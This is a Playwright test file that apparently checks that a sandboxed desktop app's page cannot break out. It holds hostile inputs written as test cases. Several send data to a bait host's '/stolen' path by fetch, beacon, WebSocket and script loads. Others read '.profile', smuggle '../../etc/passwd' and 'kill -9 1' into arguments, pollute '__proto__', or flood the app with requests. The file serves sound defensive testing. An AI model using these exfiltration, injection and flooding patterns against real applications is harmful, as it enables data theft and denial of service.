import { expect } from '@playwright/test';
import { attemptsIn } from '../support/attempt.ts';
import { ask } from '../support/bridge.ts';
import { attempts, type Row } from '../support/hostile-test.ts';
import { attemptsAt, peerConnection } from '../support/peer-connection.ts';
import type { Ending, Watched } from '../support/under-watch.ts';

const MIB = 1024 ** 2;
/** A request may have 2.1 MB. */
const LONG = `'x'.repeat(${64 * MIB})`;

type Script = string | ((watched: Watched) => string);

/** Runs a script in the page. It gives or throws an error, whose name is the code, or gives a text of its own. */
async function inPage(watched: Watched, script: Script): Promise<Ending> {
  const text = typeof script === 'string' ? script : script(watched);
  const value = await attemptsIn(watched.desktop.page)(text);
  const [, code = value, words = value] = /^(\w*Error|[a-z-]+): (.+)$/s.exec(value) ?? [];
  return { code, words };
}

const page = (name: string, code: string, script: Script, short?: 'short'): Row => ({
  name,
  code,
  run: (watched) => inPage(watched, script),
  ...(short && { short: true }),
});

/** A request whose failure is told. */
const requested = (call: string): string =>
  `capsuleDesktop.request(${call}).then(({ ok, error }) => ok ? 'done' : error.code + ': ' + error.message + ' ' + error.hint)`;
const request = (name: string, code: string, call: string, short?: 'short'): Row =>
  page(name, code, requested(call), short);

const http =
  (how: (url: string) => string): Script =>
  ({ bait: { host } }) =>
    how(`http://${host}/stolen`);
/** Made, put into the page, and heard of. */
const element = (name: string, set: (url: string) => string): Script =>
  http(
    (url) => `new Promise((told) => { const it = document.createElement('${name}');
      it.onload = () => told('loaded'); it.onerror = () => told('refused: ${name} did not load');
      Object.assign(it, ${set(url)}); document.body.append(it); }).finally(() => document.body.lastElementChild.remove())`,
  );
const opened = (make: string): string =>
  `new Promise((told) => { const it = ${make}; it.onopen = () => told('open'); it.onerror = () => told('refused: no connection'); })`;

/** Asks more than a page may, and until that is over. */
const flood = (name: string, each: string, count: number): Row => ({
  name,
  code: 'too-many-requests',
  floods: true,
  async run(watched) {
    const { desktop } = watched;
    const ending = await inPage(
      watched,
      `Promise.all(Array.from({ length: ${count} }, (_, at) => ${each})).then((all) => all.findLast((reply) => !reply.ok)?.error)
        .then((error) => error === undefined ? 'done' : error.code + ': ' + error.message + ' ' + error.hint)`,
    );
    await expect.poll(async () => (await ask(desktop.page, 'state.snapshot', null)).ok).toBe(true);
    return ending;
  },
});

attempts('8 page', [
  page(
    'fetches',
    'TypeError',
    http((url) => `fetch('${url}')`),
    'short',
  ),
  page(
    'fetches after its end',
    'TypeError',
    http((url) => `fetch('${url}', { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' })`),
  ),
  page(
    'sends a beacon',
    'true|false',
    http((url) => `navigator.sendBeacon('${url}', 'x')`),
  ),
  page('opens a WebSocket', 'refused|SecurityError', ({ bait: { host } }) =>
    opened(`new WebSocket('ws://${host}/stolen')`),
  ),
  page(
    'listens to events of a server',
    'refused',
    http((url) => opened(`new EventSource('${url}')`)),
  ),
  page(
    'opens a WebTransport',
    'WebTransportError|TypeError',
    ({ bait: { host } }) => `new WebTransport('https://${host}/').ready`,
  ),
  page(
    'loads an image',
    'refused',
    element('img', (url) => `{ src: '${url}' }`),
  ),
  page(
    'loads a script',
    'refused',
    element('script', (url) => `{ src: '${url}' }`),
  ),
  page(
    'loads a style',
    'refused',
    element('link', (url) => `{ rel: 'stylesheet', href: '${url}' }`),
  ),
  page(
    'starts a worker from elsewhere',
    'SecurityError',
    http((url) => `new Worker('${url}')`),
  ),
  page(
    'imports a module',
    'TypeError',
    http((url) => `import('${url}')`),
  ),
  page('reads a file', 'TypeError', ({ decoy }) => `fetch('file://${decoy}/.profile')`, 'short'),
  {
    name: 'asks WebRTC for a way out',
    code: 'no-candidate',
    async run(watched) {
      const port = Number(watched.bait.host.split(':')[1]);
      const used = await Promise.all(
        attemptsAt('127.0.0.1', port).map((each) => attemptsIn(watched.desktop.page)(peerConnection(each))),
      );
      expect(used).toEqual(used.map(() => '0'));
      return { code: 'no-candidate', words: `${used.length} connections found no way` };
    },
  },
  page(
    'opens a window',
    'null',
    http((url) => `window.open('${url}')`),
  ),
  page('evaluates text', 'EvalError', `eval('1 + 1')`),
  page(
    'compiles WebAssembly',
    'CompileError',
    'WebAssembly.compile(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0))',
  ),
  page('asks for the microphone', 'Not\\w+Error', 'navigator.mediaDevices.getUserMedia({ audio: true })'),
  page('calls what is not in the contract', 'Error', `capsuleDesktop.request('kernel.dispose', null)`),
  flood('fifty thousand requests at once', `capsuleDesktop.request('updates.view', null)`, 50_000),
  flood(
    'a thousand large payloads',
    `capsuleDesktop.request('capsule.invoke', { id: 'witness', action: 'x', payload: 'x'.repeat(${MIB}), principal: 'default', call: 'flood' + at })`,
    1_000,
  ),
  request('a key of 64 MiB', 'too-large', `'process.kill', { key: ${LONG} }`, 'short'),
  request('an argument of 64 MiB where none is', 'too-large', `'state.snapshot', ${LONG}`),
  request(
    'a million rights',
    'too-large',
    `'install.confirm', { token: 'x', grants: Array.from({ length: 1e6 }, () => 'process') }`,
  ),
  request(
    'objects in objects',
    'TypeError',
    `'process.kill', Array.from({ length: 1000 }).reduce((inner) => ({ inner }), {})`,
  ),
  request(
    'an object that holds itself',
    'invalid-argument|too-large',
    `'process.kill', (() => { const it = {}; it.it = it; return it; })()`,
  ),
  request(
    'a list of ten million places',
    'invalid-argument|too-large',
    `'process.kill', Object.assign([], { length: 1e7 })`,
  ),
  request('a buffer', 'invalid-argument|too-large', `'process.kill', new ArrayBuffer(${64 * MIB})`),
  request(
    'a prototype for an argument',
    'invalid-argument',
    `'install.cancel', JSON.parse('{"__proto__":{"token":"x"}}')`,
    'short',
  ),
  request('a key that is a path', 'invalid-argument', `'process.kill', { key: '../../etc/passwd' }`),
  request(
    'a signal that is none',
    'invalid-argument',
    `'process.signal', { key: '0123456789abcdef', signal: 'kill -9 1' }`,
  ),
  request(
    'a grace without end',
    'invalid-argument',
    `'process.stop', { key: '0123456789abcdef', graceMs: Infinity }`,
  ),
  request(
    'a page of logs of four gigabytes',
    'invalid-argument',
    `'logs.read', { key: '0123456789abcdef', stream: 'stdout', cursor: null, maxBytes: 2 ** 32 }`,
  ),
  request(
    'a plan that nobody made',
    'inspection-gone',
    `'install.confirm', { token: 'x'.repeat(32), grants: [] }`,
  ),
]);
